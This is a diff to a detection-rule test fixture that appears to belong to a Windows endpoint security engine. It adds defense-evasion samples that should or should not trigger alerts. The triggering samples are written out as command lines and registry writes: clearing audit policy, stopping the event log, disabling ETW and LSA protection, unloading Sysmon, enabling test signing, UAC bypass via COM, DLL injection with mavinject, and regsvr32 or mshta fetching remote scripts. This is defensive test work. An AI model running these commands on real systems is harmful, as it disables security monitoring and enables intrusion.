@@ -1,5 +1,7 @@
 import {
+  access,
   call,
+  connect,
   copy,
   type Example,
   type Examples,
@@ -185,7 +187,7 @@ export const evasion: Examples = {
   },
   evasion_regsvr32_script: {
     fires: commands('regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll'),
-    silent: commands('regsvr32 /s C:\\Windows\\System32\\x.ocx'),
+    silent: commands('regsvr32 /s C:\\Windows\\System32\\x.ocx', 'regsvr32 /s /n /i:U shell32.dll'),
   },
   evasion_mshta: {
     fires: commands('mshta http://x/y.hta', 'mshta.exe vbscript:Close(1)'),
@@ -221,5 +223,126 @@ export const evasion: Examples = {
       [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SmartScreenEnabled', 'Off')],
     ],
     silent: [[set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\System\\EnableSmartScreen', '1')]],
+  },
+  evasion_uac_bypass_com: {
+    fires: [
+      [call('CoCreateInstance', { rclsid: '3e5fc7f9-9a51-4367-9063-a120244fbec7' })],
+      ...commands('dllhost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}'),
+    ],
+    silent: [
+      [call('CoCreateInstance', { rclsid: '4590f811-1d3a-11d0-891f-00aa004b2e24' })],
+      ...commands('dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}'),
+    ],
+  },
+  evasion_auditing_disabled: {
+    fires: [
+      ...commands(
+        'auditpol /clear /y',
+        'auditpol.exe /set /category:"Logon/Logoff" /success:disable',
+        'wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false',
+        'sc stop eventlog',
+      ),
+      [
+        set(
+          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Security\\Enabled',
+          '0',
+        ),
+      ],
+      [set('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\MiniNt\\x', '1')],
+      [
+        set(
+          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging',
+          '0',
+        ),
+      ],
+    ],
+    silent: [
+      ...commands('auditpol /get /category:*', 'wevtutil qe System', 'auditpol /set /category:System /success:enable'),
+      [
+        set(
+          'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Security\\Enabled',
+          '1',
+        ),
+      ],
+    ],
+  },
+  evasion_event_tracing: {
+    fires: [
+      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled', '0')],
+      ...commands('cmd /c set COMPlus_ETWEnabled=0&& x.exe'),
+      [script('GetProcAddress("EtwEventWrite")')],
+    ],
+    silent: [
+      [set('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled', '1')],
+      ...commands('cmd /c set COMPlus_ETWEnabled=1'),
+    ],
+  },
+  evasion_filter_driver: { fires: commands('fltmc unload SysmonDrv'), silent: commands('fltmc instances') },
+  evasion_driver_signatures: {
+    fires: commands('bcdedit /set testsigning on', 'bcdedit.exe -set loadoptions DISABLE_INTEGRITY_CHECKS'),
+    silent: commands('bcdedit /set testsigning off', 'bcdedit /enum'),
+  },
+  evasion_lsa_protection: {
+    fires: [[set('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\RunAsPPL', '0')]],
+    silent: [[set('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\RunAsPPL', '1')]],
+  },
+  evasion_powershell_downgrade: {
+    fires: commands('powershell.exe -version 2 -c x', 'powershell -nop -v 2.0 -c x'),
+    silent: commands('powershell.exe -version 5.1 -c x', 'powershell Get-Item -Verbose 2'),
+  },
+  evasion_mavinject: {
+    fires: commands('mavinject.exe 4172 /INJECTRUNNING C:\\x.dll'),
+    silent: commands('mavinject.exe /?'),
+  },
+  evasion_control_panel_item: {
+    fires: commands(
+      'control.exe C:\\Users\\u\\AppData\\Local\\Temp\\x.cpl',
+      'rundll32.exe shell32.dll,Control_RunDLL "C:\\Users\\u\\Downloads\\a.cpl"',
+    ),
+    silent: commands(
+      'control.exe appwiz.cpl',
+      'rundll32.exe shell32.dll,Control_RunDLL C:\\Windows\\System32\\main.cpl',
+    ),
+  },
+  evasion_compiled_help: {
+    fires: [{ process: 'hh.exe', steps: [run('cmd.exe /c x')] }],
+    silent: [{ process: 'hh.exe', steps: [run('"C:\\Windows\\notepad.exe"')] }, [run('cmd.exe /c x')]],
+  },
+  evasion_msbuild: {
+    fires: [
+      ...commands('C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe C:\\Users\\u\\AppData\\x.csproj'),
+      { process: 'MSBuild.exe', steps: [connect('203.0.113.5', 443)] },
+    ],
+    silent: [
+      ...commands('MSBuild.exe C:\\src\\app.csproj'),
+      { process: 'MSBuild.exe', steps: [connect('127.0.0.1', 443)] },
+    ],
+  },
+  evasion_compiles_code: {
+    fires: commands('csc.exe /noconfig /fullpaths @"C:\\Users\\u\\AppData\\Local\\Temp\\a\\a.cmdline"'),
+    silent: commands('csc.exe C:\\src\\a.cs'),
+  },
+  evasion_indirect_command: {
+    fires: commands(
+      'forfiles /p c:\\windows /m notepad.exe /c calc.exe',
+      'pcalua.exe -a x.exe',
+      'conhost.exe --headless cmd',
+    ),
+    silent: commands('forfiles /p c:\\logs /d -30', 'conhost.exe 0xffffffff -ForceV1'),
+  },
+  evasion_assembles_file: {
+    fires: commands('cmd /c copy /b 1 + 2 + 3 Setup.exe', 'cmd /c copy /b /y a+b c'.replace('/b /y', '/y /b')),
+    silent: commands('cmd /c copy /b a.bin b.bin', 'cmd /c copy a + b c.txt'),
+  },
+  evasion_mounts_image: {
+    fires: commands('powershell Mount-DiskImage -ImagePath C:\\x.iso'),
+    silent: commands('powershell Get-DiskImage'),
+  },
+  evasion_token_of_another: {
+    fires: [
+      [access(700), call('DuplicateTokenEx')],
+      [access(700), call('ImpersonateLoggedOnUser')],
+    ],
+    silent: [[call('DuplicateTokenEx')], [call('DuplicateTokenEx'), access(700)]],
   },
 }
